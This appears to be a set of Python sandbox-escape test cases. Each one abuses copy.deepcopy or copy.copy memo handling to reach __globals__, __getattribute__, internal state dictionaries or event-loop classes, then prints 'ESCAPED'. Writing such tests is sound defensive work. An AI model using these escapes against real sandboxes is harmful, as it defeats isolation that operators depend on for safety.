#: a bound method under another name
import copy
f, a = (lambda: 0), []
get = copy.deepcopy(a.__len__, {id(a): f, id("__len__"): "__getattribute__"})
loot = [get("__globals__")]

#: a class's method under another name
import copy
get = copy.deepcopy(list.__len__, {id("__len__"): "__getattribute__"})
loot = [get([], "__class__"), get]
print("ESC" + "APED")

#: the memo keeps the dictionary of what was copied
import contextlib, copy
r, memo = contextlib.redirect_stdout(None), {}
copy.deepcopy(r, memo)
state = [one for one in memo[id(memo)] if type(one) is dict][0]
state["_new_target"] = 1
print("ESC" + "APED" if vars(r)["_new_target"] == 1 else "")

#: the same of a library's shared object
import calendar, copy
memo = {}
copy.deepcopy(calendar.day_name, memo)
for one in memo[id(memo)]:
    if type(one) is dict:
        one["format"] = "%d"
print("ESC" + "APED" if calendar.day_name[0] != "Monday" else "")

#: the copy of an event loop is one to ask for its class
import asyncio, copy
async def main():
    event = asyncio.Event()
    try:
        async with asyncio.timeout(0.01):
            await event.wait()
    except TimeoutError:
        pass
    try:
        copy.deepcopy(event, memo)
    except TypeError:
        pass
memo = {}
asyncio.run(main())
loot = [type(one) for one in memo.values() if "Loop" in type(one).__name__]
print("ESC" + "APED" if loot else "")

#: a copied method is found by its function's name
import asyncio, copy
def f(self): pass
f.__name__ = "_get_" + "loop"
async def main():
    return copy.copy(f.__get__(asyncio.Queue()))()
loot = [asyncio.run(main())]
print("ESC" + "APED")
